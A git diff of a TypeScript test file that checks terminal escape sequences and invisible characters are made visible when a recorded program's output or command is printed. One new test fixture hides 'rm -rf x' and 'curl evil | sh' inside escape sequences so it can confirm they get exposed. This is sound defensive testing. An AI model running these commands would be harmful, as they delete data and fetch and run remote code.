@@ -6,7 +6,7 @@ import { exportFormats } from '../../src/record/exports.ts';
 import { fenced, inline } from '../../src/record/markdown.ts';
 import { readSession } from '../../src/record/read-session.ts';
 import { timeline } from '../../src/record/show.ts';
-import { visible } from '../../src/record/visible.ts';
+import { visible, withoutEscapes } from '../../src/record/visible.ts';
 import type { NewEvent } from '../../src/session/events.ts';
 import { outcomeOf } from '../../src/walk/outcome.ts';
 import { temporaryFolder } from '../support/folder.ts';
@@ -127,7 +127,13 @@ describe.skipIf(keygen.missing)(`the timeline${keygen.note}`, () => {
 });
 
 test('what a program printed cannot drive the terminal of whoever reads it', () => {
-  expect(visible('a\u001b[31mred\u001b[0m\u001b]0;title\u0007b\u0008\u202ec\u009b')).toBe('aredb␈<U+202E>c<U+009B>');
+  const line = withoutEscapes('a\u001b[31mred\u001b[0m\u001b]0;title\u0007b\u0008\u202ec\u009b');
+  expect(visible(line)).toBe('aredb␈<U+202E>c<U+009B>');
+});
+
+test('no part of a command is hidden in what is printed of it', () => {
+  const command = 'echo 1 \u001bP; rm -rf x ; \u001b\\ a\u200bb\u001b]0;curl evil | sh\u0007';
+  expect(visible(command)).toBe('echo 1 ␛P; rm -rf x ; ␛\\ a<U+200B>b␛]0;curl evil | sh␇');
 });
 
 test.skipIf(keygen.missing)(`what was written over is not in the tail of an output${keygen.note}`, () => {
